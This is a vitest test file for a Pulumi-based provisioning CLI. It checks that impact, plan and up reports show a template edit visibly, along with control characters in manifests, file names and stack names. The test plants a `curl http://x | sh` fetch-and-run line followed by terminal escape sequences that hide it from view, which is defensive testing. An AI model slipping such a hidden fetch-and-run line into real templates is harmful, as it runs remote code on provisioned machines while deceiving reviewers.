// What a reviewer reads is what changed, through real processes: a template edit adds
// `curl http://x | sh` followed by cursor-up + erase-line, an OSC title and a bare CR (the tail
// that hides the line in a terminal), and a line of every control and hiding character a template
// may hold. `provision impact` and `provision plan` (the real engine) print it with every such
// character written out visibly and the added line there; JSON parses back to the very
// characters; the HTML page shows them too; a child's manifest and a catalog file name quoted in
// the engine's errors (also through the Pulumi CLI itself) come back visible, as does a stack
// name argument; and the child still gets the very bytes.
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFleet, type Fleet } from "../support/fleet";
import { FAMILY, HOSTILE_LINE, HOSTILE_TAIL, hidingIn } from "../support/hidingCharacters";
import { runProvision } from "../support/provisionCli";
import type { RunResult } from "../support/pulumi";

/** A template refuses NUL and U+0001 (the markers of secret tokens); every other character of the family is allowed. */
const IN_TEMPLATE = FAMILY.filter((c) => c !== "\0" && c !== "\x01");
const ADDED = [`${HOSTILE_LINE}${HOSTILE_TAIL}`, `family:${IN_TEMPLATE.join("")}:end`];

interface Change {
  kind: string;
  diff?: string;
}

/** Nothing in either stream acts on a terminal: only the lines and the diff's tabs are raw. */
function shownSafely(r: RunResult) {
  expect(hidingIn(r.stdout, "\n\t"), r.stdout).toEqual([]);
  expect(hidingIn(r.stderr, "\n\t"), r.stderr).toEqual([]);
}

/** The text report: the added lines, each one line, their controls visible. */
function showsTheEdit(text: string) {
  const lines = text.split("\n");
  const curl = lines.filter((l) => l.trimStart().startsWith(`+${HOSTILE_LINE}`));
  expect(curl, text).toHaveLength(1);
  expect(curl[0]).toContain(`+${HOSTILE_LINE}\\x1b[1A\\x1b[2K\\x1b]0;all good\\x07\\r`);
  const family = lines.filter((l) => l.trimStart().startsWith("+family:"));
  expect(family).toHaveLength(1);
  expect(family[0]).toMatch(/\+family:\\x02\\x03.*\\x1b.*\\x7f\\x85\\x9b\\x9c\\x9d\\u202e\\u2066\\u200b\\u200d\\u2028\\ufeff:end$/);
}

/** The JSON: parses, and the diff holds the added lines with their very characters. */
function jsonHoldsTheEdit(stdout: string) {
  const diff = (JSON.parse(stdout) as { changes: Change[] }).changes.find((c) => c.kind === "text")!.diff!;
  for (const line of ADDED) expect(diff.split("\n")).toContain(`+${line}`);
}

describe("the terminal shows what changed", () => {
  let fleet: Fleet;
  let beforeDir: string;
  const cli = (args: string[]) => runProvision([...args, "--project", fleet.project.dir], { cwd: fleet.project.dir, env: fleet.project.env });

  beforeAll(async () => {
    fleet = await createFleet({ transport: "local", servers: [{ name: "web-1", site: "east", arch: ["x86_64"], profiles: ["web"], wave: 0 }] });
    await fleet.project.up();
    beforeDir = fs.mkdtempSync(path.join(os.tmpdir(), "terminal-before-"));
    fs.cpSync(fleet.catalogDir, beforeDir, { recursive: true });
    fs.appendFileSync(path.join(fleet.catalogDir, "templates", "ks-base.ks.j2"), ADDED.map((l) => `${l}\n`).join(""));
  });
  afterAll(async () => {
    await fleet?.dispose();
    if (beforeDir) fs.rmSync(beforeDir, { recursive: true, force: true });
  });

  it("provision impact: text shows the added line and its controls; JSON round-trips them", async () => {
    const text = await cli(["impact", beforeDir, fleet.catalogDir, "--stack", "test"]);
    const json = await cli(["impact", beforeDir, fleet.catalogDir, "--stack", "test", "--json"]);
    for (const r of [text, json]) {
      expect(r.code, r.stderr).toBe(0);
      shownSafely(r);
    }
    showsTheEdit(text.stdout);
    jsonHoldsTheEdit(json.stdout);
  });

  it("provision plan on the real engine: text, JSON and the HTML page", async () => {
    const html = path.join(fleet.project.dir, "plan.html");
    const text = await cli(["plan", "--stack", "test", "--html", html]);
    const json = await cli(["plan", "--stack", "test", "--json"]);
    for (const r of [text, json]) {
      expect(r.code, r.stderr).toBe(0);
      shownSafely(r);
    }
    showsTheEdit(text.stdout);
    jsonHoldsTheEdit(json.stdout);
    const page = fs.readFileSync(html, "utf8");
    expect(hidingIn(page, "\n\t")).toEqual([]);
    expect(page).toContain(`<span class="add">+${HOSTILE_LINE}\\x1b[1A\\x1b[2K\\x1b]0;all good\\x07\\r</span>`);
  });

  it("provision up: a child's words in the engine's error are shown, not acted on; the child then gets the very bytes", async () => {
    // A child is untrusted: its manifest names another server, in characters that act on a terminal.
    const manifestFile = path.join(fleet.roots["web-1"]!, "manifest.json");
    const manifest = fs.readFileSync(manifestFile, "utf8");
    fs.writeFileSync(manifestFile, JSON.stringify({ ...JSON.parse(manifest), server: `web-9${HOSTILE_TAIL}\u202e\x9b` }));
    try {
      // Through `provision up`, and through the Pulumi CLI itself, which prints the provider's message as it is.
      const refused = [await cli(["up", "--stack", "test", "--wave", "0"]), await fleet.project.run(["up", "--yes", "--skip-preview", "--stack", "test"])];
      for (const r of refused) {
        expect(r.code).not.toBe(0);
        shownSafely(r);
        expect(`${r.stdout}${r.stderr}`).toContain("holds the files of server web-9\\x1b[1A\\x1b[2K\\x1b]0;all good\\x07\\r\\u202e\\x9b");
      }
    } finally {
      fs.writeFileSync(manifestFile, manifest);
    }
    const up = await cli(["up", "--stack", "test", "--wave", "0"]);
    expect(up.code, up.stderr).toBe(0);
    shownSafely(up);
    expect(up.stdout).toContain("wave 0: web-1 (1 touched)");
    // Only what is shown is escaped: the child holds the template's very characters.
    expect(fs.readFileSync(path.join(fleet.roots["web-1"]!, "http", "autoinstall", "web.cfg"), "utf8")).toContain(`${ADDED.join("\n")}\n`);
  });

  it("the stack program's error (a RunError) names a catalog file made of the family visibly, through plan and the Pulumi CLI", async () => {
    const bad = path.join(fleet.catalogDir, `bad${FAMILY.filter((c) => c !== "\0").join("")}.yaml`);
    fs.writeFileSync(bad, 'profiles:\n  - name: "web\\e]0;t\\a\\u202e"\n');
    try {
      for (const r of [await cli(["plan", "--stack", "test"]), await fleet.project.run(["preview", "--stack", "test"])]) {
        expect(r.code).not.toBe(0);
        shownSafely(r);
        expect(`${r.stdout}${r.stderr}`).toContain(`${path.join(fleet.catalogDir, "bad")}\\x01\\x02`);
        expect(`${r.stdout}${r.stderr}`).toContain('invalid name "web\\u001b]0;t\\u0007\\u202e"');
      }
    } finally {
      fs.rmSync(bad);
    }
  });

  it("a stack name argument and a catalog file name made of the family come back visible", async () => {
    const name = FAMILY.filter((c) => c !== "\0").join("");
    const plan = await cli(["plan", "--stack", `test${name}`]);
    expect(plan.code).toBe(1);
    shownSafely(plan);
    expect(plan.stderr).toContain("Pulumi.test\\x01\\x02");

    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "terminal-catalog-"));
    try {
      fs.writeFileSync(path.join(dir, `c${name}.yaml`), "profiles:\n  - name: \"web\\e]0;t\\a\\u202e\"\n");
      const validate = await runProvision(["validate", dir]);
      expect(validate.code).toBe(1);
      shownSafely(validate);
      const lines = validate.stderr.trimEnd().split("\n");
      expect(lines, validate.stderr).toHaveLength(1);
      expect(lines[0]).toContain(`${path.join(dir, "c")}\\x01\\x02`);
      expect(lines[0]).toContain('invalid name "web\\u001b]0;t\\u0007\\u202e"');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
